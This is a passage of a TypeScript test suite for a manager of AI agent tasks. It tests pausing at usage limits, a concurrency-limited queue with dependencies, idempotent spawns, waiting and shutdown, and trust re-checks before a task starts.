    const { id, thread } = await running();
    ids.push(id);
    journal.bytes.set(id, 400_000_000);
    if (index !== 1) thread.end();
  }
  await vi.advanceTimersByTimeAsync(60_000);
  // The second one still works.
  expect(tasks.snapshots().map(({ id }) => id)).toEqual([ids[1], ids[3]]);
  expect(journal.removed).toEqual([ids[0], ids[2]]);
});

describe('a used-up plan', () => {
  const error = { code: 'usage_limit', message: 'Used up.', retryable: true, hint: 'Wait.' } as const;
  const hourMs = 3_600_000;
  beforeEach(() => {
    vi.useFakeTimers();
    tasks.dispose();
    tasks = manager({ usageLimit: () => 'wait', keepAliveMs: () => 9 * hourMs });
  });

  function useUp(): number {
    const resetsAt = Date.now() + hourMs;
    agent.limits = [
      { usedPercent: 100, minutes: 300, resetsAt },
      { usedPercent: 40, minutes: 10_080, resetsAt: Date.now() + 99 * hourMs },
    ];
    return resetsAt;
  }

  it('lets a task wait, and go on by itself at the reset', async () => {
    const { id, thread } = await running();
    const resetsAt = useUp();
    await tasks.message(id, { text: 'and then', mode: 'queue' }, 'caller');
    thread.end('failed', error);
    await vi.waitFor(() => expect(tasks.get(id).status).toBe('input_required'));
    expect(tasks.get(id)).toMatchObject({
      pending: [{ question: { type: 'recovery', goesOnAt: resetsAt } }],
      error: null,
    });
    expect(tasks.get(id).activity).toMatch(/^paused, goes on at \d\d:\d\d$/);
    expect(thread.settles).toBe(1);
    await vi.advanceTimersByTimeAsync(hourMs - 1_000);
    expect(thread.inputs).toHaveLength(1);
    await vi.advanceTimersByTimeAsync(1_000);
    expect(thread.inputs[1]!.text).toMatch(/^The usage limit of the plan ended the turn before this one/);
    expect(tasks.get(id)).toMatchObject({ status: 'working', pending: [], answers: [{ outcome: 'withdrawn' }] });
    thread.end();
    await vi.waitFor(() => expect(thread.inputs[2]).toMatchObject({ text: 'and then' }));
  });

  it('lets a task go on earlier, give up, or end, as somebody says, and never again at the reset', async () => {
    const says = async (answer: Answer): Promise<[TaskSnapshot, FakeThread]> => {
      const { id, thread } = await running();
      useUp();
      thread.end('failed', error);
      await vi.waitFor(() => expect(tasks.get(id).pending).toHaveLength(1));
      await tasks.respond(id, undefined, answer, asPerson);
      await vi.waitFor(() => expect(tasks.get(id).pending).toEqual([]));
      await vi.advanceTimersByTimeAsync(2 * hourMs);
      return [tasks.get(id), thread];
    };
    const [goesOn, thread] = await says(accept);
    expect([goesOn.status, thread.inputs.length]).toEqual(['working', 2]);
    const [failed] = await says(declined);
    expect(failed).toMatchObject({ status: 'failed', error, turns: 1 });
    const [cancelled] = await says({ kind: 'decision', decision: 'cancel' });
    expect(cancelled).toMatchObject({ status: 'cancelled', turns: 1 });
  });

  it('whose reset is not known is tried again after a while; a budget that has no reset is not', async () => {
    const { id, thread } = await running();
    thread.end('failed', error);
    await vi.advanceTimersByTimeAsync(900_000);
    expect(tasks.get(id)).toMatchObject({ status: 'working', turns: 2 });
    thread.end('failed', { ...error, retryable: false });
    await vi.waitFor(() => expect(tasks.get(id).status).toBe('failed'));
  });

  it('does not start a turn at its reset where none may start, and waits for somebody', async () => {
    let trusted = true;
    tasks.dispose();
    tasks = manager({ usageLimit: () => 'wait', trusted: () => trusted });
    const { id, thread } = await running();
    useUp();
    thread.end('failed', error);
    await vi.waitFor(() => expect(tasks.get(id).pending).toHaveLength(1));
    trusted = false;
    await vi.advanceTimersByTimeAsync(2 * hourMs);
    expect([tasks.get(id).status, thread.inputs.length]).toEqual(['input_required', 1]);
  });

  it('fails a task where the person did not choose to wait', async () => {
    tasks.dispose();
    tasks = manager();
    const { id, thread } = await running();
    useUp();
    thread.end('failed', error);
    await vi.waitFor(() => expect(tasks.get(id)).toMatchObject({ status: 'failed', error }));
  });

  it('is waited for by a task of an earlier run, until the time that it knew', async () => {
    agent.past = (thread) => {
      thread.begin();
      thread.end('failed', error);
    };
    const goesOnAt = Date.now() + hourMs;
    const question = { type: 'recovery', message: 'Go on now?', goesOnAt } as const;
    const snapshot = { ...base, id: 'a-b-1', cwd: tmpdir(), threadId: 't', spawnedBy: 'caller' };
    journal.stored = [
      {
        snapshot: {
          ...snapshot,
          status: 'input_required',
          pending: [{ id: 'r1', question, askedAt: 1, expiresAt: null }],
        },
        request: { prompt: 'do it', keepAliveMs: hourMs, outputSchema: null, model: null, reasoning: null },
        unsaid: { next: null, queue: [] },
        lostMessages: 0,
      },
    ];
    await tasks.restore();
    expect(tasks.get('a-b-1')).toMatchObject({
      status: 'input_required',
      pending: [{ id: 'r2', question: { goesOnAt } }],
    });
    await vi.advanceTimersByTimeAsync(hourMs);
    expect(tasks.get('a-b-1')).toMatchObject({ status: 'working', turns: 2 });
  });
});

describe('the queue', () => {
  const status = (id: string): string => `${tasks.get(id).status} ${tasks.get(id).activity}`.trim();
  const spawn = async (more: object = {}): Promise<string> =>
    (await tasks.spawn({ prompt: 'x', ...more }, 'caller')).id;

  it('starts no more tasks than may be at work at once, in their order, and the next when one ends', async () => {
    let limit = 2;
    tasks.dispose();
    tasks = manager({ maxConcurrentTasks: () => limit });
    const [a, b, c, d] = [await spawn(), await spawn(), await spawn(), await spawn()];
    await vi.waitFor(() => expect(agent.threads).toHaveLength(2));
    expect([a, b, c, d].map(status)).toEqual([
      'working thinking',
      'working thinking',
      'submitted queued, next to start',
      'submitted queued, 1 before it',
    ]);
    agent.threads[1]!.end();
    await vi.waitFor(() => expect(status(c)).toBe('working thinking'));
    expect([status(b), status(d)]).toEqual(['completed', 'submitted queued, next to start']);
    limit = 3;
    tasks.reconsider();
    await vi.waitFor(() => expect(status(d)).toBe('working thinking'));
  });

  it('starts another while one waits for somebody, and none while more are at work than may be', async () => {
    tasks.dispose();
    tasks = manager({ maxConcurrentTasks: () => 1 });
    const [a, b, c] = [await spawn(), await spawn(), await spawn()];
    await vi.waitFor(() => expect(status(a)).toBe('working thinking'));
    expect([b, c].map((id) => tasks.get(id).heldBy)).toEqual(['queued, next to start', 'queued, 1 before it']);
    agent.threads[0]!.ask();
    await vi.waitFor(() => expect(status(b)).toBe('working thinking'));
    expect([tasks.get(b).heldBy, tasks.get(c).heldBy]).toEqual([null, 'queued, next to start']);
    // Answered, it goes on at once: two are at work where one may be.
    await tasks.respond(a, undefined, { kind: 'decision', decision: 'accept' }, { by: 'person', caller: 'person' });
    await vi.waitFor(() => expect(tasks.get(a).status).toBe('working'));
    agent.threads[0]!.end();
    await vi.waitFor(() => expect(tasks.get(a).status).toBe('completed'));
    expect(tasks.get(c).status).toBe('submitted');
    agent.threads[1]!.end();
    await vi.waitFor(() => expect(status(c)).toBe('working thinking'));
  });

  it('starts what waits as soon as more may be at work at once', async () => {
    let limit = 1;
    tasks.dispose();
    tasks = manager({ maxConcurrentTasks: () => limit });
    const [a, b] = [await spawn(), await spawn()];
    await vi.waitFor(() => expect(status(a)).toBe('working thinking'));
    expect(status(b)).toBe('submitted queued, next to start');
    limit = 2;
    tasks.reconsider();
    await vi.waitFor(() => expect(status(b)).toBe('working thinking'));
  });

  it('never starts a task that is cancelled while it waits', async () => {
    tasks.dispose();
    tasks = manager({ maxConcurrentTasks: () => 1 });
    const [a, b, c] = [await spawn(), await spawn(), await spawn()];
    await vi.waitFor(() => expect(agent.threads).toHaveLength(1));
    expect(await tasks.cancel([b])).toMatchObject({ cancelled: [b] });
    agent.threads[0]!.end();
    await vi.waitFor(() => expect(status(c)).toBe('working thinking'));
    expect([agent.specs.length, status(a), status(b)]).toEqual([2, 'completed', 'cancelled']);
  });

  it('starts a task when all that it depends on are completed', async () => {
    const [a, b] = [await spawn(), await spawn()];
    const c = await spawn({ dependsOn: [a, b, a] });
    await vi.waitFor(() => expect(agent.threads).toHaveLength(2));
    expect([status(c), tasks.get(c).dependsOn]).toEqual([`submitted waits for ${a}, ${b}`, [a, b]]);
    agent.threads[1]!.end();
    await vi.waitFor(() => expect(status(c)).toBe(`submitted waits for ${a}`));
    // What was completed once counts, whatever becomes of it.
    await vi.waitFor(() => expect(status(b)).toBe('completed'));
    tasks.remove(b);
    agent.threads[0]!.end();
    await vi.waitFor(() => expect(status(c)).toBe('working thinking'));
  });

  it('fails a task at once whose dependency did not complete, and those that depend on it', async () => {
    const a = await spawn();
    const b = await spawn({ dependsOn: [a] });
    const c = await spawn({ dependsOn: [b] });
    await vi.waitFor(() => expect(agent.threads).toHaveLength(1));
    await tasks.cancel([a]);
    await vi.waitFor(() => expect(status(c)).toBe('failed'));
    expect([b, c].map((id) => tasks.get(id).error)).toMatchObject([
      { code: 'dependency_failed', message: `Task ${a}, which this one depends on, was not completed.` },
      { code: 'dependency_failed', message: `Task ${b}, which this one depends on, was not completed.` },
    ]);
    const late = await spawn({ dependsOn: [a] });
    await vi.waitFor(() => expect(tasks.get(late).error?.code).toBe('dependency_failed'));
    await expect(spawn({ dependsOn: ['no-such-1'] })).rejects.toMatchObject({ code: 'invalid_argument' });
  });

  it('takes 200 tasks and refuses the next', async () => {
    tasks.dispose();
    tasks = manager({ maxConcurrentTasks: () => 1 });
    for (let count = 0; count < 201; count++) await spawn();
    await expect(spawn()).rejects.toMatchObject({ code: 'queue_full' });
  });

  it('looks again at what a task may do when it starts', async () => {
    let trusted = true;
    tasks.dispose();
    tasks = manager({ maxConcurrentTasks: () => 1, trusted: () => trusted });
    await spawn();
    const b = await spawn();
    await vi.waitFor(() => expect(agent.threads).toHaveLength(1));
    trusted = false;
    agent.threads[0]!.end();
    await vi.waitFor(() =>
      expect(tasks.get(b)).toMatchObject({
        status: 'failed',
        error: { message: expect.stringContaining('not trusted') as string },
      }),
    );
  });

  it('leaves nothing waiting under any order of spawns, ends and cancels', async () => {
    const step = fc.oneof(
      fc.record({ kind: fc.constant('spawn' as const), on: fc.array(fc.nat(9), { maxLength: 3 }) }),
      fc.record({ kind: fc.constantFrom('end', 'fail', 'cancel', 'remove'), at: fc.nat(9) }),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(step, { maxLength: 25 }), fc.integer({ min: 1, max: 3 }), async (steps, limit) => {
        tasks.dispose();
        agent = new FakeAgent();
        tasks = manager({ maxConcurrentTasks: () => limit });
        const ids: string[] = [];
        const settle = (): Promise<void> => new Promise((resolve) => setImmediate(resolve));
        for (const one of steps) {
          const known = ids.filter((id) => tasks.tryGet(id));
          if (one.kind === 'spawn') {
            const dependsOn = one.on.flatMap((index) => known[index] ?? []);
            ids.push(await spawn({ dependsOn }));
          } else {
            const id = known[one.at];
            const thread = agent.threads.find((_, index) => agent.specs[index]?.taskId === id);
            if (id && one.kind === 'cancel') await tasks.cancel([id]);
            else if (id && one.kind === 'remove') tasks.remove(id);
            else if (one.kind !== 'cancel') thread?.end(one.kind === 'fail' ? 'failed' : 'completed');
          }
          await settle();
          const now = tasks.snapshots();
          expect(now.filter(({ status: one }) => one === 'working').length).toBeLessThanOrEqual(limit);
        }
        // Whatever still runs is let end; then nothing may be left.
        for (let round = 0; round < 60 && tasks.snapshots().some(({ endedAt }) => endedAt === null); round++) {
          for (const thread of agent.threads) thread.end();
          await settle();
        }
        expect(tasks.snapshots().filter(({ endedAt }) => endedAt === null)).toEqual([]);
      }),
      { numRuns: 60 },
    );
  });
});

describe('the same call again', () => {
  it('gives the same task for the same key, refuses other input, and frees the key of a refused one', async () => {
    const [one, two] = await Promise.all([1, 2].map(() => tasks.spawn({ prompt: 'x', idempotencyKey: 'k' }, 'caller')));
    expect(one!.id).toBe(two!.id);
    await expect(tasks.spawn({ prompt: 'y', idempotencyKey: 'k' }, 'caller')).rejects.toMatchObject({
      code: 'invalid_argument',
    });
    expect((await tasks.spawn({ prompt: 'y', idempotencyKey: 'k' }, 'another')).id).not.toBe(one!.id);
    await expect(tasks.spawn({ prompt: 'z', cwd: '/nope', idempotencyKey: 'z' }, 'caller')).rejects.toThrow();
    expect(await tasks.spawn({ prompt: 'z', idempotencyKey: 'z' }, 'caller')).toMatchObject({ title: 'z' });
  });
});

describe('waiting', () => {
  it('reports an end once, and again after another turn', async () => {
    const { id, thread } = await running();
    const wait = (timeoutMs = 0) => tasks.wait({ caller: 'caller', about: 'own', until: 'any', timeoutMs });
    const waiting = wait(5_000);
    thread.end();
    expect((await waiting).tasks.map((task) => task.status)).toEqual(['completed']);
    expect(await wait()).toMatchObject({ tasks: [], timedOut: false });
    await tasks.message(id, { text: 'more', mode: 'auto' }, 'caller');
    thread.end();
    await vi.waitFor(() => expect(tasks.get(id).status).toBe('completed'));
    expect((await wait()).tasks.map((task) => task.id)).toEqual([id]);
    expect((await tasks.wait({ caller: 'other', about: 'all', until: 'any', timeoutMs: 0 })).tasks).toHaveLength(1);
  });

  it('ends at once when the worker stops, and when the call is cancelled', async () => {
    const { id } = await running();
    const abort = new AbortController();
    const cancelled = tasks.wait({ caller: 'a', about: [id], until: 'any', timeoutMs: 60_000, signal: abort.signal });
    const stopped = tasks.wait({ caller: 'b', about: [id], until: 'any', timeoutMs: 60_000 });
    abort.abort(new Error('no longer'));
    await expect(cancelled).rejects.toThrow('no longer');
    const ending = expect(stopped).rejects.toMatchObject({ code: 'shutting_down' });
    await tasks.shutDown();
    await ending;
    await expect(tasks.spawn({ prompt: 'late' }, 'a')).rejects.toMatchObject({ code: 'shutting_down' });
  });
});

it('tells once, before the first task that may write, what Codex does to its configuration', async () => {
  const { sandbox } = await tasks.spawn({ prompt: 'x', taskType: 'researcher' }, 'caller');
  expect([sandbox, announced.length]).toEqual(['read-only', 0]);
  await tasks.spawn({ prompt: 'x' }, 'caller');
  await tasks.spawn({ prompt: 'x' }, 'caller');
  expect(announced).toHaveLength(1);
});
